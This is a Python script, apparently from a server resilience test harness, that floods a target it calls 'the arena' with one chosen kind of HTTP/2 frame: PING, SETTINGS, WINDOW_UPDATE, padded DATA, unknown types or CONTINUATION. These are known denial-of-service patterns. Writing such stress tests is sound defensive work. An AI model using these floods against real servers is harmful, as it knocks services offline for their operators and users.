"""Sends frames of the kind that is named on its command line, as fast as it can."""

import sys
import threading
import time
from contextlib import suppress

from line import ACK, CONTINUATION, DATA, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, open_line

line = open_line()
next(line.decisions())
PLAY = line.play
KINDS = {
    "ping": frame(PING, 0, 0, bytes(8)),
    "ping_answers": frame(PING, ACK, 0, bytes(8)),
    "settings": frame(SETTINGS, 0, 0),
    "settings_that_change": frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") + frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0"),
    "window_update": frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"),
    "priority": frame(2, 0, PLAY, bytes(5)),
    "empty_data": frame(DATA, 0, PLAY),
    "padding": frame(DATA, 8, PLAY, b"\xff" + bytes(255)),
    "unknown": frame(200, 0, 0),
    "rst_of_ended_streams": frame(RST_STREAM, 0, 1, bytes(4)),
    "continuation": frame(CONTINUATION, 0, PLAY),
    "continuation_that_holds_fields": frame(CONTINUATION, 0, PLAY, b"\0\1x\1y" * 100),
}

kind = sys.argv[1]
if kind.startswith("continuation"):
    line.send(frame(HEADERS, 0, PLAY, b"\0\1x\1y"))


def read() -> None:
    """Keep what the arena answers from filling the way back."""
    with suppress(OSError):
        while line.socket.recv(1_000_000):
            pass


threading.Thread(target=read, daemon=True).start()
flood = KINDS[kind] * (1_000_000 // len(KINDS[kind]))
with suppress(OSError):  # the arena hangs up
    while True:
        line.send(flood)
time.sleep(600)
